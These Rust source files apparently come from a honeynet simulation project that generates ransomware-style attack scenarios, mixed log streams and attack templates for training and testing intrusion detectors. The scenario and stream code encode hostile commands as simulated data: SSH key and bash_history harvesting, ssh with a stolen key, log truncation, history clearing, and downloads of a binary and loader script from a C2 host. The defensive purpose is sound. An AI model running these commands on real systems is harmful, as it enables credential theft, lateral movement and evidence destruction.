            topo.hosts()
                .iter()
                .find(|h| h.name.starts_with("hpot-ctr"))
                .map(|h| h.id)
        })
        .unwrap_or(HostId(0));
    t += SimDuration::from_mins(5);
    let script_lines = [
        "find ~/ /root /home -maxdepth 2 -name id_rsa* | grep -vw pub",
        "cat ~/.ssh/config /home/*/.ssh/config /root/.ssh/config | grep HostName",
        "cat ~/.bash_history /home/*/.bash_history /root/.bash_history",
        "cat ~/*/.ssh/known_hosts /home/*/.ssh/known_hosts /root/.ssh/known_hosts",
    ];
    for (i, line) in script_lines.iter().enumerate() {
        let lt = t + SimDuration::from_secs(10 * (i as u64 + 1));
        actions.push((
            lt,
            Action::Exec(ExecAction {
                host: container_host,
                user: "postgres".into(),
                pid: 7_000 + i as u32,
                ppid: 1,
                exe: "/bin/bash".into(),
                cmdline: line.to_string(),
            }),
        ));
    }
    // Batch-mode ssh fan-out to historical hosts with stolen keys.
    t += SimDuration::from_mins(2);
    let production = simnet::addr::ncsa_production();
    for i in 0..cfg.lateral_targets {
        let lt = t + SimDuration::from_secs(5 * i as u64);
        let target_addr = production.nth(512 + 97 * i as u64);
        let target_host = topo.host_by_addr(target_addr).map(|h| h.id);
        actions.push((
            lt,
            Action::Exec(ExecAction {
                host: container_host,
                user: "postgres".into(),
                pid: 7_100 + i as u32,
                ppid: 1,
                exe: "/usr/bin/ssh".into(),
                cmdline: format!(
                    "ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 root@{target_addr} -i /tmp/stolen_key"
                ),
            }),
        ));
        let ft = lt + SimDuration::from_millis(300);
        actions.push((
            ft,
            Action::SshAuth(SshAuthAction {
                flow: fresh_flow(ft, entry_addr, target_addr, 22, false),
                target: target_host,
                user: "root".into(),
                method: AuthMethod::PublicKey,
                success: false,
                client_banner: "SSH-2.0-libssh2".into(),
            }),
        ));
    }

    // --- C2 communication: the detection opportunity. ---
    let c2_time = t + SimDuration::from_mins(4);
    actions.push((
        c2_time,
        Action::Flow(fresh_flow(c2_time, entry_addr, cfg.c2_server, 443, false)),
    ));

    // --- Trace wiping (Fig. 5's final lines). ---
    let wipe_base = c2_time + SimDuration::from_mins(1);
    for (i, path) in [
        "/var/spool/mail/root",
        "/var/log/wtmp",
        "/var/log/secure",
        "/var/log/cron",
    ]
    .iter()
    .enumerate()
    {
        actions.push((
            wipe_base + SimDuration::from_secs(i as u64),
            Action::FileOp(FileOpAction {
                host: container_host,
                user: "postgres".into(),
                path: path.to_string(),
                op: FileOp::Truncate,
                process: "bash".into(),
            }),
        ));
    }

    // --- The production wave, twelve days later (the incident report). ---
    let production_time = cfg.entry + cfg.production_delay;
    let production_victim = production.nth(1_025);
    // 03:44 downloads from the incident snippet.
    for (i, uri) in ["/sys.x86_64", "/ldr.sh?e7945e_postgres:postgres"]
        .iter()
        .enumerate()
    {
        let dt = production_time + SimDuration::from_secs(30 * i as u64);
        actions.push((
            dt,
            Action::Http(HttpAction {
                flow: Flow {
                    id: FlowId(0xBB00 + i as u64),
                    start: dt,
                    duration: SimDuration::from_secs(2),
                    src: production_victim,
                    src_port: 51_000 + i as u16,
                    dst: cfg.c2_server,
                    dst_port: 80,
                    proto: simnet::flow::Proto::Tcp,
                    state: ConnState::SF,
                    service: Service::Http,
                    orig_bytes: 300,
                    resp_bytes: 1_200_000,
                },
                method: "GET".into(),
                host: cfg.c2_server.to_string(),
                uri: uri.to_string(),
                status: 200,
                mime: if i == 0 {
                    "application/x-executable"
                } else {
                    "text/x-shellscript"
                }
                .into(),
                user_agent: "curl/7.61".into(),
            }),
        ));
    }
    // An hour later: SSH scanning from the compromised production host.
    let scan_base = production_time + SimDuration::from_hours(1);
    for i in 0..40u64 {
        let st = scan_base + SimDuration::from_secs(i);
        let dst = production.nth(2_000 + i * 13);
        actions.push((
            st,
            Action::Flow(fresh_flow(st, production_victim, dst, 22, false)),
        ));
    }

    actions.sort_by_key(|(t, _)| *t);
    RansomwareScenario {
        actions,
        c2_time,
        production_time,
        production_victim,
    }
}

/// The alert-kind sequence the honeypot phase is expected to produce —
/// used by tests and by the detector-training corpus.
pub fn expected_honeypot_kinds() -> Vec<alertlib::taxonomy::AlertKind> {
    use alertlib::taxonomy::AlertKind::*;
    vec![
        RepeatedProbeDb,
        DefaultCredentialUse,
        DbVersionRecon,
        ElfMagicInDbBlob,
        LoExportExecution,
        FileDropTmp,
        SshKeyEnumeration,
        KnownHostsEnumeration,
        BashHistoryAccess,
        LateralMovementAttempt,
        C2Communication,
        LogWipe,
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use honeynet::deploy::DeployConfig;
    use simnet::topology::NcsaTopologyBuilder;

    fn scenario() -> RansomwareScenario {
        let mut topo = NcsaTopologyBuilder::default().build();
        let mut dep = HoneynetDeployment::install(&mut topo, &DeployConfig::default());
        build_scenario(&topo, &mut dep, &RansomwareConfig::default())
    }

    #[test]
    fn actions_are_time_ordered() {
        let s = scenario();
        for w in s.actions.windows(2) {
            assert!(w[1].0 >= w[0].0);
        }
        assert!(
            s.actions.len() > 400,
            "probing + attack + wave: got {}",
            s.actions.len()
        );
    }

    #[test]
    fn twelve_day_lead_structure() {
        let s = scenario();
        let lead = s.production_time - s.c2_time;
        let days = lead.as_days();
        assert!(
            (11..=12).contains(&days),
            "production wave follows the C2 detection by ~12 days, got {days}"
        );
    }

    #[test]
    fn honeypot_phase_contains_all_three_steps() {
        use simnet::action::DbCommandKind;
        let s = scenario();
        let mut saw_version = false;
        let mut saw_elf = false;
        let mut saw_export = false;
        for (_, a) in &s.actions {
            if let Action::Db(d) = a {
                match &d.command {
                    DbCommandKind::ShowVersion => saw_version = true,
                    DbCommandKind::LargeObjectWrite { hex_prefix, .. } => {
                        assert!(hex_prefix.starts_with("7F454C46"));
                        saw_elf = true;
                    }
                    DbCommandKind::LoExport { path } => {
                        assert_eq!(path, "/tmp/kp");
                        saw_export = true;
                    }
                    _ => {}
                }
            }
        }
        assert!(saw_version && saw_elf && saw_export);
    }

    #[test]
    fn fig5_script_lines_present() {
        let s = scenario();
        let cmdlines: Vec<&str> = s
            .actions
            .iter()
            .filter_map(|(_, a)| match a {
                Action::Exec(e) => Some(e.cmdline.as_str()),
                _ => None,
            })
            .collect();
        assert!(cmdlines.iter().any(|c| c.contains("id_rsa")));
        assert!(cmdlines.iter().any(|c| c.contains("known_hosts")));
        assert!(cmdlines.iter().any(|c| c.contains("bash_history")));
        assert!(cmdlines.iter().any(|c| c.contains("-oBatchMode=yes")));
        assert!(FIG5_SCRIPT.contains("oBatchMode=yes"));
    }

    #[test]
    fn production_wave_matches_incident_snippet() {
        let s = scenario();
        let https: Vec<_> = s
            .actions
            .iter()
            .filter_map(|(_, a)| match a {
                Action::Http(h) => Some(h),
                _ => None,
            })
            .collect();
        assert_eq!(https.len(), 2);
        assert!(https.iter().any(|h| h.uri.contains("sys.x86_64")));
        assert!(https.iter().any(|h| h.uri.contains("ldr.sh")));
        // 03:44 as in "Alerted to the following downloads to this host at 3:44a".
        let (h, m, _) = s.production_time.time_of_day();
        assert_eq!((h, m), (3, 44));
    }

    #[test]
    fn log_wipe_covers_fig5_targets() {
        let s = scenario();
        let wiped: Vec<&str> = s
            .actions
            .iter()
            .filter_map(|(_, a)| match a {
                Action::FileOp(f) if f.op == FileOp::Truncate => Some(f.path.as_str()),
                _ => None,
            })
            .collect();
        for p in [
            "/var/spool/mail/root",
            "/var/log/wtmp",
            "/var/log/secure",
            "/var/log/cron",
        ] {
            assert!(wiped.contains(&p), "{p} must be wiped");
        }
    }
}
