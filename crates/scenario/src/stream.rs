//! Raw record-stream workloads for the streaming pipeline.
//!
//! The other scenario modules emit *alerts* (post-symbolization) or
//! simulation *actions*; the streaming executors and their benchmarks need
//! the layer in between — a reproducible stream of [`LogRecord`]s mixing:
//!
//! - mass-scanner probe floods (collapsed by the repeated-scan filter),
//! - benign established flows (mostly symbolize to nothing),
//! - per-user host command sessions whose alerts survive the filter and
//!   exercise the per-entity detectors — the load the sharded executor
//!   partitions.
//!
//! User activity is Zipf-skewed so shard balance is tested under realistic
//! entity popularity, not a uniform idealization.

use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
use simnet::intern::{Sym, SymScope};
use simnet::rng::{SimRng, Zipf};
use simnet::time::{SimDuration, SimTime};
use simnet::topology::HostId;
use telemetry::record::{ConnRecord, LogRecord, ProcessRecord};

/// Shape of a mixed record stream.
#[derive(Debug, Clone)]
pub struct RecordStreamConfig {
    pub start: SimTime,
    /// Stream horizon; timestamps are spread uniformly across it.
    pub horizon: SimDuration,
    /// Scanner probe records (SSH S0 probes from a small source pool).
    pub scan_records: usize,
    /// Distinct scanner sources.
    pub scanners: usize,
    /// Benign established flows.
    pub benign_flows: usize,
    /// Host command (process) records across the user population.
    pub exec_records: usize,
    /// Distinct user accounts (detector entities).
    pub users: usize,
    /// Zipf exponent for user activity skew (0 = uniform).
    pub zipf_exponent: f64,
    /// Fraction of command records drawn from the attack-indicative
    /// palette (the rest are benign). The default matches the historical
    /// 8-of-12 palette mix that keeps the per-entity detectors busy;
    /// evaluation harnesses measuring false-positive rates set this low so
    /// the background is genuinely benign.
    pub indicative_exec_fraction: f64,
}

impl Default for RecordStreamConfig {
    fn default() -> Self {
        RecordStreamConfig {
            start: SimTime::from_date(2024, 10, 1),
            horizon: SimDuration::from_hours(24),
            scan_records: 40_000,
            scanners: 32,
            benign_flows: 20_000,
            exec_records: 40_000,
            users: 2_000,
            zipf_exponent: 1.1,
            indicative_exec_fraction: 8.0 / 12.0,
        }
    }
}

/// Benign command palette (symbolizes to nothing).
const BENIGN_CMDS: &[&str] = &[
    "ls -la /scratch/project",
    "python3 train.py --epochs 10",
    "sbatch batch_job.sh",
    "tail -n 100 output.log",
];

/// Attack-indicative command palette (one Significant-severity alert each;
/// passes the scan filter and drives the per-entity detectors).
const INDICATIVE_CMDS: &[&str] = &[
    "wget http://64.215.4.5/abs.c",
    "make -C /lib/modules/4.4/build modules",
    "grep -r IdentityFile /etc/ssh",
    "cat /home/shared/.ssh/known_hosts",
    "cat /root/.bash_history",
    "history -c && exit",
    "touch -t 202410010101 /tmp/.hidden",
    "crontab /tmp/cron.txt",
];

/// Generate a time-ordered mixed record stream in the global scope.
///
/// Allocation-light by construction: command/exe palettes, hostnames and
/// the user population are interned once up front (reused verbatim across
/// calls — the [`Sym`] table deduplicates), scanner addresses are
/// computed numerically instead of `format!`+parse, and each emitted
/// record is a flat `Sym`-carrying value. The only per-call heap cost is
/// the records vector itself.
pub fn record_stream(cfg: &RecordStreamConfig, rng: &mut SimRng) -> Vec<LogRecord> {
    record_stream_in(&SymScope::global(), cfg, rng)
}

/// [`record_stream`] minting its palettes into an explicit scope — what a
/// tenant pipeline feeds on so the stream's symbols live (and die) with
/// the tenant.
pub fn record_stream_in(
    scope: &SymScope,
    cfg: &RecordStreamConfig,
    rng: &mut SimRng,
) -> Vec<LogRecord> {
    use std::fmt::Write as _;

    let total = cfg.scan_records + cfg.benign_flows + cfg.exec_records;
    let mut records: Vec<LogRecord> = Vec::with_capacity(total);
    let horizon_ns = cfg.horizon.as_nanos().max(1);
    let ts = |rng: &mut SimRng| cfg.start + SimDuration::from_nanos(rng.range_u64(0, horizon_ns));

    let scanners = cfg.scanners.max(1);
    for i in 0..cfg.scan_records {
        let t = ts(rng);
        let scanner = 1 + (i % scanners) as u64;
        records.push(LogRecord::Conn(ConnRecord {
            ts: t,
            uid: FlowId(i as u64),
            orig_h: std::net::Ipv4Addr::new(
                103,
                (100 + scanner / 200) as u8,
                (1 + scanner % 200) as u8,
                9,
            ),
            orig_p: 40_000,
            resp_h: simnet::addr::ncsa_production().nth(rng.range_u64(0, 65_536)),
            resp_p: 22,
            proto: Proto::Tcp,
            service: Service::Ssh,
            duration: SimDuration::ZERO,
            orig_bytes: 0,
            resp_bytes: 0,
            conn_state: ConnState::S0,
            direction: Direction::Inbound,
        }));
    }

    for i in 0..cfg.benign_flows {
        let t = ts(rng);
        records.push(LogRecord::Conn(ConnRecord {
            ts: t,
            uid: FlowId((cfg.scan_records + i) as u64),
            orig_h: simnet::addr::ncsa_production().nth(rng.range_u64(256, 20_000)),
            orig_p: (40_000 + (i % 20_000)) as u16,
            resp_h: simnet::addr::ncsa_production().nth(rng.range_u64(256, 20_000)),
            resp_p: [22, 443, 2049][rng.index(3)],
            proto: Proto::Tcp,
            service: Service::Ssh,
            duration: SimDuration::from_secs(rng.range_u64(1, 120)),
            orig_bytes: rng.range_u64(500, 100_000),
            resp_bytes: rng.range_u64(500, 100_000),
            conn_state: ConnState::SF,
            direction: Direction::Internal,
        }));
    }

    let users = cfg.users.max(1);
    let zipf = Zipf::new(users, cfg.zipf_exponent);
    // Interned palettes: one intern per distinct string per process, one
    // scratch buffer for the formatted names.
    let benign_cmds: Vec<Sym> = BENIGN_CMDS.iter().map(|c| scope.sym(c)).collect();
    let indicative_cmds: Vec<Sym> = INDICATIVE_CMDS.iter().map(|c| scope.sym(c)).collect();
    let exe: Sym = scope.sym("/bin/bash");
    let mut scratch = String::new();
    let hostnames: Vec<Sym> = (0..64u32)
        .map(|h| {
            scratch.clear();
            let _ = write!(scratch, "compute-{h}");
            scope.sym(&scratch)
        })
        .collect();
    let user_names: Vec<Sym> = (0..users)
        .map(|rank| {
            scratch.clear();
            let _ = write!(scratch, "user{rank:05}");
            scope.sym(&scratch)
        })
        .collect();
    for i in 0..cfg.exec_records {
        let t = ts(rng);
        let user_rank = zipf.sample(rng);
        let cmd = if rng.chance(cfg.indicative_exec_fraction) {
            indicative_cmds[rng.index(indicative_cmds.len())]
        } else {
            benign_cmds[rng.index(benign_cmds.len())]
        };
        records.push(LogRecord::Process(ProcessRecord {
            ts: t,
            host: HostId((user_rank % 64) as u32),
            hostname: hostnames[user_rank % 64],
            user: user_names[user_rank],
            pid: 1_000 + (i % 60_000) as u32,
            ppid: 1,
            exe,
            cmdline: cmd,
        }));
    }

    records.sort_by_key(|r| r.ts());
    records
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stream_is_reproducible_and_ordered() {
        let cfg = RecordStreamConfig {
            scan_records: 500,
            benign_flows: 300,
            exec_records: 400,
            users: 50,
            ..RecordStreamConfig::default()
        };
        let a = record_stream(&cfg, &mut SimRng::seed(7));
        let b = record_stream(&cfg, &mut SimRng::seed(7));
        assert_eq!(a.len(), 1_200);
        assert_eq!(a, b, "seeded generation is deterministic");
        assert!(a.windows(2).all(|w| w[0].ts() <= w[1].ts()));
    }

    #[test]
    fn exec_records_cover_many_users() {
        let cfg = RecordStreamConfig {
            scan_records: 0,
            benign_flows: 0,
            exec_records: 2_000,
            users: 100,
            ..RecordStreamConfig::default()
        };
        let records = record_stream(&cfg, &mut SimRng::seed(1));
        let users: std::collections::HashSet<Sym> = records
            .iter()
            .filter_map(|r| match r {
                LogRecord::Process(p) => Some(p.user),
                _ => None,
            })
            .collect();
        assert!(
            users.len() > 30,
            "zipf still spreads entities: {}",
            users.len()
        );
    }

    #[test]
    fn indicative_fraction_controls_alert_yield() {
        let base = RecordStreamConfig {
            scan_records: 0,
            benign_flows: 0,
            exec_records: 3_000,
            users: 100,
            ..RecordStreamConfig::default()
        };
        let yield_of = |frac: f64| {
            let cfg = RecordStreamConfig {
                indicative_exec_fraction: frac,
                ..base.clone()
            };
            let mut sym = alertlib::Symbolizer::with_defaults();
            let mut alerts = Vec::new();
            for r in record_stream(&cfg, &mut SimRng::seed(2)) {
                sym.symbolize_into(&r, &mut alerts);
            }
            alerts.len()
        };
        assert_eq!(yield_of(0.0), 0, "benign-only background raises no alerts");
        let low = yield_of(0.05);
        let high = yield_of(0.9);
        assert!(
            low > 0 && high > low * 5,
            "fraction scales yield: {low} vs {high}"
        );
    }
}
