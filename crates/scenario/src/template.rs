//! Attack step templates.
//!
//! A template describes an attack family as a sequence of steps, each
//! causing one symbolic alert after a delay drawn from a step-specific
//! model. Delay models encode Insight 3: automated steps (scans) tick at
//! machine rate with low variance; manual steps (a human driving the
//! exploit) have heavy-tailed, high-variance gaps.

use alertlib::taxonomy::AlertKind;
use serde::{Deserialize, Serialize};
use simnet::rng::SimRng;
use simnet::time::SimDuration;

/// Inter-step delay model.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub enum Delay {
    /// Fixed gap (automated tooling).
    Fixed { secs: f64 },
    /// Exponential with the given mean (scripted-but-jittery).
    Exponential { mean_secs: f64 },
    /// Log-normal (manual attacker behaviour, Insight 3).
    LogNormal { mu: f64, sigma: f64 },
}

impl Delay {
    /// Draw a delay.
    pub fn sample(&self, rng: &mut SimRng) -> SimDuration {
        let secs = match *self {
            Delay::Fixed { secs } => secs,
            Delay::Exponential { mean_secs } => rng.exponential(1.0 / mean_secs.max(1e-9)),
            Delay::LogNormal { mu, sigma } => rng.log_normal(mu, sigma),
        };
        SimDuration::from_secs_f64(secs)
    }

    /// Typical automated-phase delay (tight, seconds apart).
    pub fn automated() -> Delay {
        Delay::Fixed { secs: 5.0 }
    }

    /// Typical manual-phase delay (minutes to hours, heavy-tailed).
    pub fn manual() -> Delay {
        // exp(7) ≈ 18 min median, sigma 1.4 → long tail into hours.
        Delay::LogNormal {
            mu: 7.0,
            sigma: 1.4,
        }
    }
}

/// One step of an attack template.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Step {
    /// The alert this step causes when observed.
    pub kind: AlertKind,
    /// Delay after the previous step.
    pub delay: Delay,
    /// Probability the step occurs at all (1.0 = always).
    pub probability: f64,
}

impl Step {
    pub fn always(kind: AlertKind, delay: Delay) -> Step {
        Step {
            kind,
            delay,
            probability: 1.0,
        }
    }

    pub fn sometimes(kind: AlertKind, delay: Delay, probability: f64) -> Step {
        Step {
            kind,
            delay,
            probability,
        }
    }
}

/// An attack family template.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AttackTemplate {
    pub family: String,
    pub steps: Vec<Step>,
}

impl AttackTemplate {
    pub fn new(family: impl Into<String>, steps: Vec<Step>) -> AttackTemplate {
        assert!(!steps.is_empty(), "template needs at least one step");
        AttackTemplate {
            family: family.into(),
            steps,
        }
    }

    /// The deterministic kind signature (all always-steps).
    pub fn signature(&self) -> Vec<AlertKind> {
        self.steps
            .iter()
            .filter(|s| s.probability >= 1.0)
            .map(|s| s.kind)
            .collect()
    }

    /// Realize the step sequence: per-step `(offset_from_start, kind)`.
    pub fn realize(&self, rng: &mut SimRng) -> Vec<(SimDuration, AlertKind)> {
        let mut out = Vec::with_capacity(self.steps.len());
        let mut t = SimDuration::ZERO;
        for step in &self.steps {
            if step.probability < 1.0 && !rng.chance(step.probability) {
                continue;
            }
            t += step.delay.sample(rng);
            out.push((t, step.kind));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use AlertKind::*;

    fn template() -> AttackTemplate {
        AttackTemplate::new(
            "test",
            vec![
                Step::always(PortScan, Delay::automated()),
                Step::always(DownloadSensitive, Delay::manual()),
                Step::sometimes(CompileKernelModule, Delay::manual(), 0.5),
                Step::always(LogWipe, Delay::manual()),
            ],
        )
    }

    #[test]
    fn realization_is_time_ordered() {
        let mut rng = SimRng::seed(1);
        for _ in 0..50 {
            let seq = template().realize(&mut rng);
            for w in seq.windows(2) {
                assert!(w[1].0 >= w[0].0);
            }
            assert!(seq.len() >= 3 && seq.len() <= 4);
        }
    }

    #[test]
    fn optional_steps_sometimes_skipped() {
        let mut rng = SimRng::seed(2);
        let lens: Vec<usize> = (0..200)
            .map(|_| template().realize(&mut rng).len())
            .collect();
        assert!(lens.contains(&3));
        assert!(lens.contains(&4));
    }

    #[test]
    fn signature_excludes_optional_steps() {
        let sig = template().signature();
        assert_eq!(sig, vec![PortScan, DownloadSensitive, LogWipe]);
    }

    #[test]
    fn delay_models_have_expected_dispersion() {
        let mut rng = SimRng::seed(3);
        let n = 5_000;
        let sample = |d: Delay, rng: &mut SimRng| -> Vec<f64> {
            (0..n).map(|_| d.sample(rng).as_secs_f64()).collect()
        };
        let auto = sample(Delay::automated(), &mut rng);
        let manual = sample(Delay::manual(), &mut rng);
        let cv = |v: &[f64]| {
            let m = v.iter().sum::<f64>() / v.len() as f64;
            let var = v.iter().map(|x| (x - m).powi(2)).sum::<f64>() / v.len() as f64;
            var.sqrt() / m
        };
        assert!(cv(&auto) < 1e-9, "fixed delay has no variance");
        assert!(
            cv(&manual) > 1.0,
            "manual delays are high-variance (Insight 3)"
        );
    }

    #[test]
    fn deterministic_per_seed() {
        let a = template().realize(&mut SimRng::seed(7));
        let b = template().realize(&mut SimRng::seed(7));
        assert_eq!(a, b);
    }
}
