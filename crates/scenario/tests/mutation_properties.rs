//! Property tests over the adversarial mutation engine (proptest):
//!
//! 1. Same seed ⇒ byte-identical mutated campaign (records *and* ground
//!    truth), across randomized mutation knobs and background mixes.
//! 2. Mutations never violate a family's declared kill-chain ordering
//!    invariants ([`KillChain::validate`]), for any knob combination.
//! 3. Timing dilation never reorders timestamps: record streams stay
//!    time-ordered, and the structural (template-step) sequence is
//!    invariant under the dilation factor.

use proptest::prelude::*;
use scenario::library::standard_library;
use scenario::mutate::{
    generate_campaign, mutate_template, CampaignConfig, KillChain, MutationConfig,
};
use scenario::stream::RecordStreamConfig;
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};

fn mutation_cfg(
    drop_prob: f64,
    swap_prob: f64,
    noise_steps: usize,
    dilation: f64,
    decoy_prob: f64,
    lateral_prob: f64,
) -> MutationConfig {
    MutationConfig {
        drop_prob,
        swap_prob,
        noise_steps,
        dilation,
        decoy_prob,
        lateral_prob,
        max_lateral_entities: 3,
        force_damage: true,
    }
}

fn campaign_cfg(sessions: usize, mutation: MutationConfig, background: bool) -> CampaignConfig {
    CampaignConfig {
        sessions,
        horizon: SimDuration::from_hours(48),
        mutation,
        background: background.then(|| RecordStreamConfig {
            scan_records: 400,
            benign_flows: 150,
            exec_records: 250,
            users: 30,
            ..RecordStreamConfig::default()
        }),
        ..CampaignConfig::default()
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// Same seed ⇒ byte-identical campaign, for any mutation knobs.
    #[test]
    fn same_seed_is_byte_identical(
        seed in 0u64..100_000,
        sessions in 1usize..40,
        drop_prob in 0.0f64..0.9,
        swap_prob in 0.0f64..1.0,
        noise_steps in 0usize..8,
        dilation_x10 in 10u64..200,
        decoy_prob in 0.0f64..0.5,
        lateral_prob in 0.0f64..1.0,
        background in 0usize..2,
    ) {
        let cfg = campaign_cfg(
            sessions,
            mutation_cfg(
                drop_prob,
                swap_prob,
                noise_steps,
                dilation_x10 as f64 / 10.0,
                decoy_prob,
                lateral_prob,
            ),
            background == 1,
        );
        let a = generate_campaign(&cfg, &mut SimRng::seed(seed));
        let b = generate_campaign(&cfg, &mut SimRng::seed(seed));
        // Structural equality first (better failure messages) ...
        prop_assert_eq!(&a.truth, &b.truth);
        prop_assert_eq!(a.records.len(), b.records.len());
        // ... then byte identity of the full rendered streams.
        prop_assert_eq!(format!("{:?}", a.records), format!("{:?}", b.records));
        prop_assert_eq!(format!("{:?}", a.truth), format!("{:?}", b.truth));
    }

    /// Every mutated session respects its family's kill-chain invariants:
    /// ranks never run backwards and nothing follows the damage step.
    #[test]
    fn mutations_respect_kill_chain_invariants(
        seed in 0u64..100_000,
        drop_prob in 0.0f64..0.9,
        swap_prob in 0.0f64..1.0,
        noise_steps in 0usize..8,
        lateral_prob in 0.0f64..1.0,
        force_damage_bit in 0usize..2,
    ) {
        let force_damage = force_damage_bit == 1;
        let lib = standard_library();
        let mut cfg = mutation_cfg(drop_prob, swap_prob, noise_steps, 1.0, 0.0, lateral_prob);
        cfg.force_damage = force_damage;
        let mut rng = SimRng::seed(seed);
        for (i, template) in lib.iter().enumerate() {
            let chain = KillChain::of(template);
            let session = mutate_template(
                i,
                template,
                &cfg,
                SimTime::from_date(2024, 10, 1),
                vec![
                    "198.18.0.1".parse().unwrap(),
                    "198.18.0.2".parse().unwrap(),
                    "198.18.0.3".parse().unwrap(),
                ],
                "141.142.2.9".parse().unwrap(),
                &mut rng,
            );
            let indices = session.template_step_indices();
            prop_assert!(indices.len() >= 2, "{}: too few steps", template.family);
            prop_assert_eq!(
                chain.validate(&indices),
                None,
                "{}: kill-chain violation in {:?}",
                template.family.clone(),
                indices
            );
            // Session plans are time-ordered.
            for w in session.steps.windows(2) {
                prop_assert!(w[1].offset >= w[0].offset);
            }
            if force_damage {
                prop_assert!(session.damage_ts().is_some());
            }
        }
    }

    /// Dilation stretches timing but never reorders: the campaign stream
    /// stays time-ordered and the structural step sequence of every
    /// session is invariant under the dilation factor.
    #[test]
    fn dilation_never_reorders(
        seed in 0u64..100_000,
        sessions in 1usize..24,
        // Sweeps from mild stretching (1.1x–50x) through absurd dilations
        // (1e6x–1e10x, where a heavy-tailed manual delay × the factor
        // reaches the end of representable SimTime): offsets must saturate
        // there, never wrap a session backwards in time. Odd draws take
        // the extreme branch: `dilation = draw^2 · 1e6`.
        dilation_x10 in 11u64..500,
        extreme in 0u64..2,
    ) {
        let dilation_x10 = if extreme == 1 {
            dilation_x10 * dilation_x10 * 10_000_000
        } else {
            dilation_x10
        };
        let base = campaign_cfg(
            sessions,
            mutation_cfg(0.25, 0.35, 4, 1.0, 0.1, 0.25),
            false,
        );
        let mut slow_mut = base.mutation.clone();
        slow_mut.dilation = dilation_x10 as f64 / 10.0;
        let slow_cfg = CampaignConfig { mutation: slow_mut, ..base.clone() };

        let fast = generate_campaign(&base, &mut SimRng::seed(seed));
        let slow = generate_campaign(&slow_cfg, &mut SimRng::seed(seed));

        // The merged stream is time-ordered at any dilation.
        for w in slow.records.windows(2) {
            prop_assert!(w[0].ts() <= w[1].ts(), "dilated stream reordered");
        }
        // Same sessions, same structural content, stretched timing.
        prop_assert_eq!(fast.truth.sessions.len(), slow.truth.sessions.len());
        for (f, s) in fast.truth.sessions.iter().zip(&slow.truth.sessions) {
            prop_assert_eq!(f.decoy, s.decoy);
            prop_assert_eq!(&f.family, &s.family);
            let f_kinds: Vec<_> = f.steps.iter().map(|(_, k)| *k).collect();
            let s_kinds: Vec<_> = s.steps.iter().map(|(_, k)| *k).collect();
            prop_assert_eq!(f_kinds, s_kinds, "dilation changed step structure");
            // Per-session step timestamps are non-decreasing.
            for w in s.steps.windows(2) {
                prop_assert!(w[1].0 >= w[0].0);
            }
            // And the dilated session is no shorter than the fast one.
            if let (Some((ft, _)), Some((st, _))) = (f.steps.last(), s.steps.last()) {
                prop_assert!(
                    st.saturating_since(s.start) >= ft.saturating_since(f.start),
                    "dilation shrank a session"
                );
            }
        }
    }
}
