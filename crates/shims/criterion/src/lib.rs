//! Offline stand-in for `criterion`: the same bench-authoring surface
//! (`criterion_group!`/`criterion_main!`, `Criterion`,
//! `benchmark_group`, `bench_with_input`, `Bencher::iter`,
//! `Throughput`), with a simple warmup-then-measure timer instead of
//! criterion's statistical machinery.
//!
//! Measurement: each benchmark warms up for ~a tenth of the sample
//! window, picks an iteration count to fill the window, and reports the
//! mean time per iteration (plus throughput when declared). The window
//! defaults to 300 ms and can be tuned with `SHIM_BENCH_MS`. A CLI
//! filter argument (as passed by `cargo bench -- <filter>`) restricts
//! which benchmarks run.

use std::fmt;
use std::time::{Duration, Instant};

pub use std::hint::black_box;

/// Throughput declaration for a benchmark group.
#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    Elements(u64),
    Bytes(u64),
}

/// Identifier `function/parameter` within a group.
pub struct BenchmarkId {
    label: String,
}

impl BenchmarkId {
    pub fn new(function: impl Into<String>, parameter: impl fmt::Display) -> BenchmarkId {
        BenchmarkId {
            label: format!("{}/{}", function.into(), parameter),
        }
    }

    pub fn from_parameter(parameter: impl fmt::Display) -> BenchmarkId {
        BenchmarkId {
            label: parameter.to_string(),
        }
    }
}

impl From<&str> for BenchmarkId {
    fn from(s: &str) -> BenchmarkId {
        BenchmarkId {
            label: s.to_string(),
        }
    }
}

impl From<String> for BenchmarkId {
    fn from(s: String) -> BenchmarkId {
        BenchmarkId { label: s }
    }
}

/// The measurement driver handed to bench closures.
pub struct Bencher<'a> {
    window: Duration,
    /// Mean ns/iter recorded by the last `iter` call.
    result_ns: &'a mut f64,
}

impl Bencher<'_> {
    /// Time `routine`, storing the mean ns/iteration.
    pub fn iter<O>(&mut self, mut routine: impl FnMut() -> O) {
        // Warmup: run until a tenth of the window has elapsed, counting
        // iterations to size the measurement batch.
        let warmup_target = self.window / 10;
        let warm_start = Instant::now();
        let mut warm_iters: u64 = 0;
        while warm_start.elapsed() < warmup_target {
            black_box(routine());
            warm_iters += 1;
        }
        let per_iter = warm_start.elapsed().as_secs_f64() / warm_iters as f64;
        let iters = ((self.window.as_secs_f64() * 0.9 / per_iter) as u64).max(1);
        let start = Instant::now();
        for _ in 0..iters {
            black_box(routine());
        }
        *self.result_ns = start.elapsed().as_secs_f64() * 1e9 / iters as f64;
    }
}

fn human_time(ns: f64) -> String {
    if ns < 1_000.0 {
        format!("{ns:8.2} ns")
    } else if ns < 1_000_000.0 {
        format!("{:8.2} µs", ns / 1_000.0)
    } else if ns < 1_000_000_000.0 {
        format!("{:8.2} ms", ns / 1_000_000.0)
    } else {
        format!("{:8.2} s ", ns / 1_000_000_000.0)
    }
}

fn human_rate(per_sec: f64, unit: &str) -> String {
    if per_sec >= 1e9 {
        format!("{:7.2} G{unit}/s", per_sec / 1e9)
    } else if per_sec >= 1e6 {
        format!("{:7.2} M{unit}/s", per_sec / 1e6)
    } else if per_sec >= 1e3 {
        format!("{:7.2} K{unit}/s", per_sec / 1e3)
    } else {
        format!("{per_sec:7.2} {unit}/s")
    }
}

/// Top-level driver; mirror of `criterion::Criterion`.
pub struct Criterion {
    filter: Option<String>,
